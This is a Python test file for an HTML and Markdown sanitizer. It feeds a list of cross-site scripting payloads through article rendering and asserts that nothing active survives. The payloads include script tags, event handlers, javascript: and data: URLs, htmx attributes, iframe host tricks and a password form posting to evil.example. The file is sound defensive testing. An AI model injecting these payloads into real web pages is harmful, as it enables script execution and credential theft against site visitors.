"""Nothing active passes, in whatever form it is written, as a reader of HTML that is not ours sees it."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.content.harmless import wrong
from tests.content.reading import library, policy
from wizard.content.article import Article

HOST = "player.example"
RULES = replace(policy(), video_hosts=(HOST,))
PLAIN, WHOLE = "---\ntitle: T\n---\n", "---\ntitle: T\ncontentIsHTML: true\n---\n"


def read(source: str, head: str = PLAIN) -> Article:
    return library({"t.md": head + source, "other.md": "---\ntitle: Other\n---\n[T](t.md)"}, RULES).articles["/t/"]


def parts(article: Article) -> list[str]:
    steps = [html for step in article.steps for html in (step.html, step.words)]
    return [article.intro, *steps, article.outro, article.next_html, *(one.html for one in article.attachments)]


HOSTILE = [
    "<script>x()</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    '<img src=x onerror="x()">',
    "<img src=x onerror=x() alt='",
    "<p style='position:fixed'>",
    "<style>*{display:none}</style>",
    "<div hx-get=/staff/ hx-trigger=load>",
    "<div data-hx-post='/x' hx-on:load=x()>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<iframe src=https://evil.example></iframe>",
    f"<iframe src=https://{HOST}/1 srcdoc='<script>x()</script>' onload=x()></iframe>",
    f"<iframe src='https://{HOST}@evil.example/'></iframe>",
    f"<iframe src='https://{HOST}\\@evil.example/'></iframe>",
    f"<iframe src='https://{HOST}/\"><script>x()</script>' title='\"><script>x()</script>'></iframe>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<a href=javascript:x()>a</a>",
    "<a href='java\nscript:x()'>a</a>",
    "<a href='&#106;avascript:x()'>a</a>",
    "<a href='\x01javascript:x()'>a</a>",
    "<a href=data:text/html,x>a</a>",
    "[a](javascript:x())",
    "[a](<java&#10;script:x()>)",
    "[a]({{ site.baseurl }}javascript:x())",
    "[a]({% link javascript:x() %})",
    "![a](data:image/svg+xml,x)",
    "<javascript:x()>",
    "[a][r]\n\n[r]: vbscript:x()",
    "<svg onload=x()><a xlink:href=javascript:x()>x</a></svg>",
    "<math><mtext><script>x()</script></mtext></math>",
    "<object data=x></object><embed src=x>",
    "<base href=//evil.example><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "<video src=javascript:x() onplay=x()></video><audio><source src=data:x></audio>",
    "<details ontoggle=x() open>",
    "<a href=\"x\" href='javascript:x()'>",
    "<a/href=javascript:x()>",
    "<p {hx-get=/staff/}>",
    "words {hx-get=/staff/ onclick=x() .big #own style='color:red'}",
    "## Heading {onclick=x()}",
    "# Heading {#own onclick=x()}",
    "{: onclick=\"x()\" hx-get='/staff/'}",
    '## Heading {: #own"onclick=x() onclick=x()}',
    "[a](other.md){hx-get=/staff/}",
    "![a](x.png){onerror=x()}",
    "```{onclick=x()}\nx\n```",
    ":::note <img src=x onerror=x()>\nx\n:::",
    "> [!NOTE] <img src=x onerror=x()>",
    '![a](x.png "<img src=x onerror=x()>")',
    "text[^<b>]\n\n[^<b>]: <script>x()</script>",
    "<!--><script>x()</script>-->",
    "<![CDATA[<script>x()</script>]]>",
    "<?php echo 1; ?>",
    "<li data-line=" + "9" * 5000 + ">x",
    "<ol start=" + "9" * 5000 + "><li>x</ol>",
    "<p class='callout now danger button'>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'>",
    "<xmp><script>x()</script>",
    "<table><tr><td><form><a href=x>",
    "</div></article></main>",
    "<a title='\">",
    "1. ",
    "\n\n",
    "`",
    "| a |\n|---|\n| ",
]


@pytest.mark.parametrize("head", [PLAIN, WHOLE], ids=["Markdown", "HTML"])
@pytest.mark.parametrize("attack", HOSTILE, ids=lambda attack: attack[:50])
def test_it_does_not_pass(attack: str, head: str) -> None:
    for source in (attack, f"1. {attack}", f"Words {attack} words.", f"<p>{attack}</p>", f"> - {attack}\n> - {attack}"):
        for html in parts(read(source, head)):
            assert wrong(html, (HOST,)) == [], source


@given(st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=6), st.sampled_from([PLAIN, WHOLE]))
def test_nor_does_any_two_beside_each_other(attacks: list[str], head: str) -> None:
    for html in parts(read("".join(attacks), head)):
        assert wrong(html, (HOST,)) == []


@given(st.text(alphabet="<>\"'/=ahrefsconlickjvtp: \n&;!-{}#.[]()`*|", max_size=120), st.sampled_from([PLAIN, WHOLE]))
def test_nor_does_any_other_text(text: str, head: str) -> None:
    for html in parts(read(text, head)):
        assert wrong(html, (HOST,)) == []


def test_attributes_in_braces_are_text_or_gone() -> None:
    """There is no plugin that would make attributes of them."""
    html = read("Words {hx-get=/staff/ onclick=x()}\n\n## Title {#own onclick=x()}\n\nMore.\n{: hx-get=/staff/}").intro
    assert "<p>Words {hx-get=/staff/ onclick=x()}</p>" in html
    assert '<h2 id="title-own-onclickx">' in html and "{:" not in html and "<p>More." in html


def test_a_harmful_thing_would_be_seen() -> None:
    """The reader of these tests sees what it looks for."""
    for html in ("<p onclick=x>", "<script>", "<a href='javascript:x'>x</a>", "<p>", "<iframe src=https://x>", "</p>"):
        assert wrong(html), html
